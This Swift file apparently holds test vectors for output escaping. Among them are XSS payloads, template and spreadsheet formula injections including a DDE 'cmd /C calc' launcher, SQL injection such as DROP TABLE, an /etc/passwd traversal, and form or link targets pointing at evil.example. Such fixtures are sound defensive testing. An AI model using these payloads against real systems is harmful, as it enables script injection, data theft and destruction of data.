/// Texts that have broken out of somebody's page, table, statement or file before.
enum ScriptVectors {
    static let all: [String] = tags + attributes + encoded + combining + joined + templates + others

    private static let tags = [
        "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</select><img src=x onerror=alert(1)>", "</option></select><svg/onload=alert(1)>", "</dd></dl><h1>",
        "<img src=x onerror=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc=\"<script>1</script>\">",
        "<!--<script>-->", "--><script>alert(1)</script><!--", "<![CDATA[<b>]]>", "<?php echo 1 ?>", "<<b>b>",
        "<a href=\"javascript:alert(1)\">x</a>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
        "<form action=//evil.example><input name=p>", "</main></body></html><body onload=alert(1)>", "<plaintext>",
    ]

    private static let attributes = [
        "\" onfocus=\"alert(1)\" autofocus=\"", "' onfocus='alert(1)' autofocus='", "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>", "` onfocus=`alert(1)", "x onmouseover=alert(1) y", "\" style=\"position:fixed",
        "\\\" onfocus=alert(1) x=\\\"", "javascript:alert(1)//", "data:text/html,<script>alert(1)</script>",
    ]

    private static let encoded = [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&quot; onfocus=alert(1) x=&quot;",
        "&amp;lt;b&amp;gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "&colon;&Tab;&NewLine;", "&",
        "&#0;&#xD800;&#x110000;",
    ]

    /// Signs with a mark on them, which are other characters and the same scalars.
    private static let combining = [
        "\"\u{301} onfocus=\"\u{301}alert(1)", "'\u{301} onfocus='\u{301}alert(1)", "<\u{301}script>alert(1)</script>",
        "\u{600}<script>alert(1)</script>", "\u{600}\" onfocus=\"alert(1)", "&\u{301}lt;b&\u{338}gt;",
        "<\u{338}b>\u{301}", "\u{200D}<b>\u{200D}\"\u{200D}x=\u{200D}", "\u{202E}<b>\u{2066}\"\u{2069}",
        "\u{FF1C}script\u{FF1E}\u{FF02}\u{FF07}", "<b\u{FE0F}>\"\u{FE0F}", "\u{6DD}\"\u{6DD}<b>\u{70F}'",
    ]

    /// Each sign between all pairs of scalars that join with what stands beside them: 64 vectors in each text.
    private static let joined = ["<", ">", "&", "\"", "'", "`"].map { sign in
        let joiners = ["", "\u{301}", "\u{600}", "\u{200D}", "\u{FE0F}", "\u{20E3}", "\u{1F3FB}", "\u{94D}"]
        return joiners.flatMap { before in joiners.map { before + sign + $0 } }.joined(separator: "字")
    }

    private static let templates = [
        "{{customer}}{{t.layout.nav}}", "{{{customer}}}", "{{&customer}}", "{{>layout}}", "{{#t}}x{{/t}}",
        "{{=<% %>=}}<%customer%>", "{{! note }}{{^x}}y{{/x}}", "{name}{time}{customer}{agent}{day}",
    ]

    private static let others = [
        "=HYPERLINK(\"//evil.example\")", "+1+cmd|' /C calc'!A0", "@SUM(1,1)", "'; DROP TABLE customer; --",
        "' OR '1'='1", "%_*?[a]", "a\u{0}<b>\u{1}\u{7F}", "<b>\r\n\"x\u{2028}y\u{85}z", "../../etc/passwd\\..\\",
        "𠮷·\u{1F468}\u{200D}\u{1F469}<i>", String(repeating: "<b \"'&>", count: 110),
    ]
}
